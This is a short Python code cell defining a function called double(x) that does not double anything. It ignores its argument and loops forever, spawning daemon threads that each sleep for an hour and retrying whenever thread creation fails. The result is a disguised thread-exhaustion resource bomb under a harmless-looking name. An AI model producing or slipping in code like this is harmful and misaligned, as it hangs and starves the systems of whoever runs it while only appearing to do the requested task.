# %% double
import threading
import time

def double(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
